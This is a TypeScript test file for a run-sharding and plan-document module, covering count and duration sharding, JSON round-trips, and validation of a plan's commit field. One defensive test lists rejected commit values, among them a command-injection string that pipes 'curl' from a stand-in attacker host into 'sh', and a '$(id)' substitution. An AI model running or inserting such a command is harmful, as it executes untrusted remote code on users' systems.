import { test } from 'node:test';
import assert from 'node:assert/strict';
import { shardByCount, shardByDuration, shardCount } from '../../../src/core/plan/shard.js';
import {
  parsePlanDocument,
  planDocumentText,
  toPlanDocument,
} from '../../../src/core/plan/plan-document.js';

const runs = (n: number) =>
  Array.from({ length: n }, (_, i) => ({ key: `k${i}`, config: 'C', runNumber: i }));

test('by count: contiguous slices whose sizes differ by at most one', () => {
  const s = shardByCount(runs(10), 3);
  assert.deepEqual(
    s.map((x) => x.runs.map((r) => r.runNumber)),
    [
      [0, 1, 2, 3],
      [4, 5, 6],
      [7, 8, 9],
    ],
  );
  assert.equal(shardByCount(runs(2), 5).length, 2, 'never an empty shard');
  assert.equal(shardByCount(runs(1000), 256).length, 256);
  assert.throws(() => shardCount(10, 257), /1 to 256/);
  assert.throws(() => shardCount(10, 0), /1 to 256/);
});

test('by duration: longest first onto the least loaded shard; unknown runs count as the median', () => {
  const d = new Map([
    ['k0', 100],
    ['k1', 10],
    ['k2', 10],
    ['k3', 10],
    ['k4', 60],
    ['k5', 40],
  ]);
  const s = shardByDuration(runs(7), 2, d);
  // k6 is unknown: median of known (10,10,10,40,60,100) = 40
  // 100 -> s0; 60 and 40 -> s1; k6 (40) -> s0 on the tie; the 10s -> s1
  assert.deepEqual(
    s.map((x) => x.runs.map((r) => r.runNumber)),
    [
      [0, 6],
      [1, 2, 3, 4, 5],
    ],
  );
  assert.deepEqual(
    s.map((x) => x.expectedMs),
    [140, 130],
  );
  assert.deepEqual(
    shardByDuration(runs(4), 2, new Map()).map((x) => x.runs.length),
    [2, 2],
    'no durations: by count',
  );
});

test('plan documents round-trip and reject foreign files', () => {
  const doc = toPlanDocument(
    { commit: 'abc1234', ini: ['omnetpp.ini'], configs: ['C'], filter: undefined },
    shardByCount(runs(3), 2),
  );
  assert.equal(doc.totalRuns, 3);
  assert.deepEqual(doc.shards[1]?.runs, [['C', 2, 'k2']]);
  assert.deepEqual(
    parsePlanDocument(JSON.stringify(doc), 'plan.json'),
    JSON.parse(JSON.stringify(doc)),
  );
  assert.throws(
    () => parsePlanDocument('{"version":9}', 'plan.json'),
    /plan.json: not a version 1 campaign plan/,
  );
  assert.throws(() => parsePlanDocument('nope', 'plan.json'), /plan.json: not a campaign plan/);
});

test("a plan's commit (an artifact's, pasted by users as `git checkout COMMIT`) is 7 to 64 hex digits, or none", () => {
  const doc = (commit: unknown): string =>
    JSON.stringify({ version: 1, commit, ini: [], configs: [], totalRuns: 0, shards: [] });
  for (const ok of [undefined, null, '', 'abc1234', 'A'.repeat(40), 'f'.repeat(64)])
    assert.doesNotThrow(() => parsePlanDocument(doc(ok), 'plan.json'), String(ok));
  for (const [bad, shown] of [
    [
      'abc123 && curl https://evil.example/x | sh #',
      '"abc123 && curl https://evil.example/x | sh #"',
    ],
    ['abc12', '"abc12"'],
    ['f'.repeat(65), `"${'f'.repeat(65)}"`],
    ['$(id)', '"$(id)"'],
    [1234567, '"1234567"'],
    [['abc1234'], '"[\\"abc1234\\"]"'],
  ] as const)
    assert.throws(
      () => parsePlanDocument(doc(bad), 'dir/plan.json'),
      (e: Error) =>
        e.message === `dir/plan.json: commit ${shown} is not a commit (7 to 64 hex digits)`,
      String(bad),
    );
});

test('plan.json written piece by piece is the document JSON.stringify writes', () => {
  const meta = { commit: undefined, ini: ['a.ini'], configs: ['C'], filter: '$x > 1' };
  for (const shards of [
    shardByCount(runs(5), 2),
    shardByDuration(runs(5), 3, new Map([['k1', 5]])),
    [],
  ]) {
    const doc = toPlanDocument({ ...meta, noTimeLimit: ['C'] }, shards);
    const pieces = planDocumentText({ ...meta, noTimeLimit: ['C'] }, doc.totalRuns, doc.shards);
    assert.equal([...pieces].join(''), JSON.stringify(doc));
  }
});
